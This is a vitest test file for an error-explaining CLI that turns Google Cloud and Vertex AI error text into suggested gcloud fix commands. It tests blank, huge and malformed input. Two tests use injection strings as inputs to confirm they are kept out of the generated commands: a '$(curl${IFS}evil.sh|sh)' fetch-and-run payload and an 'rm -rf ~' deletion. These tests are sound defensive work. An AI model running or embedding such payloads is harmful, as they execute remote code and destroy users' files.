import {describe, expect, it} from 'vitest';
import {explain, renderDiagnosis, toJson} from '../../source/explain/index.js';
import {serviceDisabledBody} from './samples.js';

const MB = 1024 * 1024;

describe('bad and huge input', () => {
	it('empty or blank input: other, low confidence, says how to give the text', () => {
		for (const text of ['', '   \n\t']) {
			const d = explain(text);
			expect(d.category).toBe('other');
			expect(d.confidence).toBeLessThanOrEqual(0.2);
			expect(d.summary).toBe('No error text was given.');
			expect(d.wizardCommand).toBe('vertex-setup doctor');
		}
	});

	it('never throws on non-string input from untyped callers', () => {
		expect(explain(undefined as unknown as string).category).toBe('other');
		expect(explain(null as unknown as string, null as unknown as {}).category).toBe('other');
	});

	it('finishes on 1 MB inputs built to make regexes and the JSON scanner backtrack', () => {
		const inputs = [
			'{'.repeat(MB),
			'["'.repeat(MB / 2),
			'a'.repeat(MB),
			'Error 4'.repeat(MB / 7),
			'projects/'.repeat(MB / 9),
			`${'Permission '.repeat(MB / 22)}${' x'.repeat(MB / 4)}`,
			'{"error": {"message": "'.repeat(MB / 24),
			'"reason": "'.repeat(MB / 11),
			'key: "a" '.repeat(MB / 9),
			`${'A '.repeat(MB / 4)}has not been used`,
		];
		for (const text of inputs) {
			const d = explain(text);
			expect(d.summary).not.toBe('');
		}
	});

	it('still finds the error at the start or at the end of a 1 MB log', () => {
		const error = JSON.stringify(serviceDisabledBody('Agent Platform API', 'big-log-proj'));
		const noise = 'INFO something happened {"a": [1, 2, 3]}\n'.repeat(MB / 42);
		for (const text of [`${error}\n${noise}`, `${noise}${error}\n`]) {
			const d = explain(text);
			expect(d.category).toBe('service_disabled');
			expect(d.project).toBe('big-log-proj');
		}
	});

	it('never echoes a value that is not a valid ID into a command', () => {
		const text = 'Vertex AI API has not been used in project $(curl${IFS}evil.sh|sh) before or it is disabled.';
		const d = explain(text);
		expect(d.category).toBe('service_disabled');
		for (const c of d.commands) expect(c).not.toContain('evil');
		expect(d.commands).toContain('gcloud services enable aiplatform.googleapis.com --project=PROJECT_ID');
	});

	it('keeps redacted values (PROJECT_ID, {project}) out of commands but reports them', () => {
		const d = explain("Permission 'aiplatform.endpoints.predict' denied on resource '//aiplatform.googleapis.com/projects/{project}/locations/us-central1/publishers/google/models/gemini-2.5-flash'");
		expect(d.project).toBe('{project}');
		expect(d.commands.join('\n')).not.toContain('{project}');
		expect(d.commands).toContain('gcloud projects add-iam-policy-binding PROJECT_ID --member=user:EMAIL --role=roles/aiplatform.user --condition=None');
	});

	it('ignores hints that are not valid IDs when writing commands', () => {
		const d = explain('Error: Could not load the default credentials.', {project: 'My Project; rm -rf ~'});
		expect(d.commands).toContain('gcloud auth application-default set-quota-project PROJECT_ID');
	});

	it('strips terminal escapes from the input and adds none to uncoloured output', () => {
		const d = explain('\u001b[31mERROR:\u001b[0m (gcloud.projects.list) You do not currently have an active account selected.');
		expect(d.category).toBe('gcloud_no_account');
		expect(renderDiagnosis(d, {color: false})).not.toContain('\u001b');
		expect(renderDiagnosis(d, {color: true})).toContain('\u001b[');
	});

	it('--json carries exactly the documented fields, with null for what the text lacks', () => {
		const json = toJson(explain('/bin/sh: gcloud: command not found'));
		expect(Object.keys(json).sort()).toEqual(['category', 'commands', 'confidence', 'fix', 'location', 'model', 'permission', 'project', 'service', 'summary'].sort());
		expect(json).toMatchObject({category: 'gcloud_missing', service: null, project: null, permission: null, location: null, model: null});
		expect(json.fix).toContain('Install the Google Cloud CLI');
	});
});
